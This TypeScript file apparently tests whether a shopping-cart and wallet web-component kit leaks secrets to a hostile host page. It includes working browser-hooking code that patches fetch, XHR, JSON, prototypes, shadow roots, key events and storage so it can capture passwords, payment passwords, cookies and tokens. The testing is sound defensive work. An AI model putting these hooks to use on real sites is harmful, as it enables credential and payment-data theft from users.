import { from, type Scene } from '../attack.ts'
import { demo } from '../scene.ts'

// The hostile page hooks what the browser gives to every script before the kit is loaded. Its own token it has anyway.

type Bag = { steal: (text: string) => void }

/** The victim uses every tag: looks at his wallet, puts goods into the cart, goes to order. */
const uses = async ({ page, context, platform }: Scene) => {
  await page.locator('wotu-cart').getByRole('button', { name: /^结算/ }).waitFor()
  await page.locator('wotu-wallet').getByText('可用余额').waitFor()
  const [order] = await Promise.all([
    context.waitForEvent('page'),
    page.locator('wotu-cart').getByRole('button', { name: /^结算/ }).click(),
  ])
  await order.waitForURL(`${platform}/**`)
}

const hooks: Record<string, () => void> = {
  fetch: () => {
    const send = window.fetch
    window.fetch = async (...asked) => {
      ;(window as unknown as Bag).steal(JSON.stringify(asked))
      const answer = await send(...asked)
      ;(window as unknown as Bag).steal((await answer.clone().text()) + JSON.stringify([...answer.headers]))
      return answer
    }
  },
  XMLHttpRequest: () => {
    const { send } = XMLHttpRequest.prototype
    XMLHttpRequest.prototype.send = function (body) {
      ;(window as unknown as Bag).steal(String(body))
      send.call(this, body)
    }
  },
  'every promise': () => {
    const { then } = Promise.prototype
    const hooked = function (this: Promise<unknown>, done?: ((value: unknown) => unknown) | null, failed?: null) {
      return then.call(
        this,
        done &&
          ((value: unknown) => {
            if (typeof value === 'string') (window as unknown as Bag).steal(value)
            return done(value)
          }),
        failed,
      )
    }
    Reflect.set(Promise.prototype, 'then', hooked)
  },
  JSON: () => {
    const { stringify, parse } = JSON
    let busy = false
    const keep = (text: string) => {
      // What carries it away is a script too.
      if (busy) return
      busy = true
      ;(window as unknown as Bag).steal(text)
      busy = false
    }
    JSON.stringify = (...asked: unknown[]) => {
      const text = stringify.apply(JSON, asked as never)
      keep(String(text))
      return text
    }
    JSON.parse = (...asked: unknown[]) => {
      keep(String(asked[0]))
      return parse.apply(JSON, asked as never) as unknown
    }
  },
  'maps, lists and sets': () => {
    const keep = (value: unknown) => typeof value === 'string' && (window as unknown as Bag).steal(value)
    const { set } = Map.prototype
    Map.prototype.set = function (key, value) {
      keep(key)
      keep(value)
      return set.call(this, key, value)
    }
    const { push } = Array.prototype
    Array.prototype.push = function (...values) {
      values.forEach(keep)
      return push.apply(this, values)
    }
  },
  'every object’s password, token and code': () => {
    for (const name of ['password', 'payPassword', 'authorisationId', 'cookie', 'number'])
      Object.defineProperty(Object.prototype, name, {
        configurable: true,
        get: () => undefined,
        set(value: unknown) {
          ;(window as unknown as Bag).steal(String(value))
          Object.defineProperty(this, name, { value, writable: true, configurable: true, enumerable: true })
        },
      })
  },
  'every shadow root': () => {
    const attach = Element.prototype.attachShadow
    Element.prototype.attachShadow = function (init) {
      const root = attach.call(this, { ...init, mode: 'open' })
      setInterval(() => (window as unknown as Bag).steal(root.innerHTML), 50)
      return root
    }
  },
  'the definition of every tag': () => {
    const define = customElements.define.bind(customElements)
    customElements.define = (name, element) =>
      define(
        name,
        class extends element {
          constructor() {
            super()
            this.addEventListener(
              'keydown',
              (event) => (window as unknown as Bag).steal((event as KeyboardEvent).key),
              true,
            )
          }
        },
      )
  },
  'every event and listener': () => {
    const { dispatchEvent, addEventListener } = EventTarget.prototype
    EventTarget.prototype.dispatchEvent = function (event) {
      ;(window as unknown as Bag).steal(JSON.stringify((event as CustomEvent).detail ?? null))
      return dispatchEvent.call(this, event)
    }
    EventTarget.prototype.addEventListener = function (type: string, listener: never, options: never) {
      ;(window as unknown as Bag).steal(type)
      return addEventListener.call(this, type, listener, options)
    }
  },
  'randomness and digests': () => {
    crypto.getRandomValues = (array) => array
    const { digest } = SubtleCrypto.prototype
    SubtleCrypto.prototype.digest = function (how, what) {
      ;(window as unknown as Bag).steal(new TextDecoder().decode(what))
      return digest.call(this, how, what)
    }
  },
  'headers and requests': () => {
    const { set, append } = Headers.prototype
    Headers.prototype.set = function (name, value) {
      ;(window as unknown as Bag).steal(`${name}: ${value}`)
      set.call(this, name, value)
    }
    Headers.prototype.append = function (name, value) {
      ;(window as unknown as Bag).steal(`${name}: ${value}`)
      append.call(this, name, value)
    }
  },
  'every store of the browser': () => {
    setInterval(() => {
      ;(window as unknown as Bag).steal(document.cookie + JSON.stringify({ ...localStorage, ...sessionStorage }))
      void indexedDB.databases().then((all) => (window as unknown as Bag).steal(JSON.stringify(all)))
      void caches.keys().then((all) => (window as unknown as Bag).steal(all.join()))
    }, 50)
  },
  'addresses, and how long each took': () => {
    new PerformanceObserver((list) => (window as unknown as Bag).steal(JSON.stringify(list.getEntries()))).observe({
      type: 'resource',
      buffered: true,
    })
  },
  'texts, as they are cut and put together': () => {
    for (const name of ['replace', 'split', 'slice', 'concat'] as const) {
      const own = String.prototype[name] as (...asked: unknown[]) => unknown
      Object.defineProperty(String.prototype, name, {
        value(this: string, ...asked: unknown[]) {
          if (this.length < 500) (window as unknown as Bag).steal(String(this))
          return own.apply(this, asked)
        },
      })
    }
  },
}

const body = '<wotu-sign-in></wotu-sign-in><wotu-cart></wotu-cart><wotu-wallet></wotu-wallet>'

export const hooked = from(
  ['partner'],
  Object.entries(hooks).map(([name, before]) => ({ name: `hooks ${name}`, before, body, signedIn: true, act: uses })),
)

export const hookedControl = from(
  ['partner'],
  [
    {
      name: 'a password that the page itself sends: that is seen',
      control: true,
      before: hooks.fetch,
      act: async ({ page }) => {
        await page.evaluate((password) => fetch('/page.css', { method: 'POST', body: password }), demo.password)
      },
    },
  ],
)
